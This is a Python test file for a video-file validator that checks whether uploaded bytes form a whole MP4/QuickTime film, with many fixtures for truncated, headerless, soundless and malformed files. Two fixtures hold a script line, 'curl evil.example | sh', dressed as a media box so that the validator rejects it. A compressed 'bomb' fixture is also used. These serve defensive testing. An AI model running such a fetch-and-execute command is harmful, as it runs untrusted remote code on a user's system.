"""What is taken for a whole film, whoever made it, and what is not: cut off, without pictures, only dressed as one."""

import io
import struct
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from luma_mcp.media.boxes import MOST_BOXES
from luma_mcp.media.films import Flaw, flaw_in, is_chained
from luma_mcp.sandbox.http import bundled_clip
from tests.support.films import (
    FTYP,
    PICTURES,
    box,
    film,
    film_header_first,
    film_in_fragments,
    fragment,
    movie,
    table,
    track,
)

SIZE = len(PICTURES)
INIT = film_in_fragments(0)


def flaw(content: bytes) -> Flaw:
    return flaw_in(io.BytesIO(content), len(content))


def chained(content: bytes) -> bool:
    return is_chained(io.BytesIO(content), len(content))


def long_content() -> bytes:
    return FTYP + box(b"mdat", PICTURES, wide=True) + movie(track(table(len(FTYP) + 16, SIZE)))


def packed_header() -> bytes:
    """Make the film of an old QuickTime, which compressed its headers."""
    header = movie(track(table(len(FTYP) + 8, SIZE)))
    content = box(b"cmvd", struct.pack(">I", len(header)), zlib.compress(header))
    return FTYP + box(b"mdat", PICTURES) + box(b"moov", box(b"cmov", box(b"dcom", b"zlib"), content))


def with_other_tracks() -> bytes:
    pictures, sound = track(table(len(FTYP) + 8, SIZE // 4, 4, chunks=2)), track(table(40, 1), b"soun", 2)
    more = [track(table(40, 1), kind, number) for number, kind in enumerate((b"tmcd", b"meta", b"vide"), 3)]
    return FTYP + box(b"mdat", PICTURES) + movie(sound, box(b"udta", bytes(4)), pictures, *more, wide=True)


WHOLE = {
    "the sandbox's": bundled_clip().read_bytes(),
    "header last": film(),
    "header first": film_header_first(),
    "64 bit": long_content(),
    "content to the end": film_header_first(to_the_end=True),
    "fragments": film_in_fragments(),
    "fragments of an hour": INIT + fragment(b"p") * 7200,
    "segment index": INIT + box(b"styp", b"msdh") + box(b"sidx", bytes(24)) + fragment() + box(b"mfra", bytes(20)),
    "other tracks": with_other_tracks(),
    "packed header": packed_header(),
    "nothing before": film(before=b""),
    "header first of all": movie(track(table(500, SIZE))) + box(b"mdat", bytes(600) + PICTURES),
    **{
        f"{kind.decode()} first": film(before=box(kind, bytes(24)))
        for kind in (b"wide", b"free", b"skip", b"uuid", b"styp", b"pnot", b"PICT", b"junk")
    },
    "boxes in between": film(before=FTYP + box(b"free") + box(b"beam", b"x" * 99) + box(b"uuid", bytes(40))),
    "old brand": film(before=box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"wide")),
    **{
        f"behind it {name}": film(behind=behind)
        for name, behind in {
            "zeros": bytes(5000),
            "three zeros": bytes(3),
            "a picture": b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(range(256)),
            "xml": b"<?xml version='1.0'?><x:xmpmeta/>",
            "id3": b"TAGtitle" + b" " * 120,
            "a box of a camera": box(b"sefd", b"x" * 100),
            "free": box(b"free", b"x" * 100),
            "user data": box(b"udta", b"x" * 100),
            "text": b"made with love",
        }.items()
    },
}
CUT_OFF = {
    "in the content": film_header_first()[:-1],
    "before the content": film_header_first()[: -SIZE - 8],
    "in content to the end": film_header_first(to_the_end=True)[:-1],
    "in the header": film()[:-1],
    "in a head": FTYP + struct.pack(">I4s", 1, b"mdat"),
    "in a fragment": film_in_fragments()[:-1],
    "between a fragment's boxes": film_in_fragments()[: -SIZE - 8],
    "before the first fragment": INIT,
    "huge box": FTYP + struct.pack(">I4sQ", 1, b"free", 1 << 63),
    "a script": b"#   mdat\ncurl evil.example | sh\n",
}
NO_HEADER = {"before the header": FTYP + box(b"mdat", PICTURES), "only a brand": FTYP, "fragments": fragment()}
NO_PICTURES = {
    "sound": FTYP + box(b"mdat", PICTURES) + movie(track(table(40, 9), b"soun")),
    "no sample": FTYP + box(b"mdat", PICTURES) + movie(track(table(0, 0, 0, chunks=0))),
    "no track": FTYP + box(b"mdat", PICTURES) + movie(),
    "fragments of sound": FTYP + movie(track(table(0, 0, 0, chunks=0))) + fragment(number=2),
    "a bomb": FTYP
    + box(b"mdat", PICTURES)
    + box(b"moov", box(b"cmov", box(b"cmvd", bytes(4), zlib.compress(bytes(1 << 27), 9)))),
}
OTHER = {
    "nothing": b"",
    "text": b"these are my notes",
    "a page": b"<!doctype html><html></html>",
    "a picture": box(b"ftyp", b"heic\0\0\0\0") + box(b"meta", bytes(100)),
    "a script": b"#   free\ncurl evil.example | sh\n",
    "a box and noise": FTYP + b"vvvvvvvvvvvv",
    "a fragment first": box(b"moof", bytes(20)) + film(),
    "tiny box": FTYP + struct.pack(">I4s", 4, b"moov"),
    "tiny long box": FTYP + struct.pack(">I4sQ", 1, b"free", 3),
}


class Counted(io.BytesIO):
    """A file that counts how often it is read."""

    reads = 0

    def read(self, size: int | None = -1, /) -> bytes:
        self.reads += 1
        return super().read(size)


def named(contents: dict[str, bytes]) -> list[object]:
    return [pytest.param(content, id=name) for name, content in contents.items()]


@pytest.mark.parametrize("content", named(WHOLE))
def test_a_whole_film_is_taken_however_odd(content: bytes) -> None:
    assert flaw(content) is Flaw.NONE
    assert chained(content)


@pytest.mark.parametrize("content", named(CUT_OFF))
def test_a_film_that_is_cut_off_is_known_to_be(content: bytes) -> None:
    assert flaw(content) is Flaw.CUT_OFF


@pytest.mark.parametrize("content", named(NO_HEADER))
def test_a_film_without_its_header_is_not_taken(content: bytes) -> None:
    assert flaw(content) in (Flaw.NO_HEADER, Flaw.OTHER)
    assert not chained(content)


@pytest.mark.parametrize("content", named(NO_PICTURES))
def test_a_film_without_pictures_is_not_taken(content: bytes) -> None:
    assert flaw(content) is Flaw.NO_PICTURES


@pytest.mark.parametrize("content", named(OTHER))
def test_what_is_no_chain_of_boxes_is_not_taken(content: bytes) -> None:
    assert flaw(content) is Flaw.OTHER
    assert not chained(content)


@pytest.mark.parametrize("content", [film(), film_header_first(), film_in_fragments(1), long_content()])
def test_no_cut_leaves_a_whole_film(content: bytes) -> None:
    assert [cut for cut in range(len(content)) if flaw(content[:cut]) is Flaw.NONE] == []


@given(st.binary(max_size=300), st.integers(0, 1500), st.sampled_from([film(), film_in_fragments(), packed_header()]))
def test_no_content_whatever_breaks_the_reader(noise: bytes, at: int, good: bytes) -> None:
    for content in (noise, good[:at] + noise + good[at + len(noise) :], good[:at] + noise + good[at:]):
        flaw(content)
        chained(content)


@pytest.mark.parametrize("deep", [True, False], ids=["deep", "wide"])
def test_boxes_without_number_or_depth_cost_no_more_than_some(deep: bool) -> None:
    inner = b""
    for kind in (b"stbl", b"minf", b"mdia", b"trak"):
        inner = box(kind, inner) * 40 if deep else box(kind, inner)
    content = Counted(FTYP + box(b"moov", inner * (1 if deep else 200_000)))
    assert flaw_in(content, len(content.getvalue())) is Flaw.NO_PICTURES
    assert content.reads < 3 * MOST_BOXES


def test_what_lies_behind_more_boxes_than_are_counted_does_not_matter() -> None:
    assert flaw(film_header_first(behind=box(b"free") * 200_001 + b"noise")) is Flaw.NONE
    assert flaw(FTYP + box(b"free") * 200_001 + film(before=b"")) is Flaw.OTHER
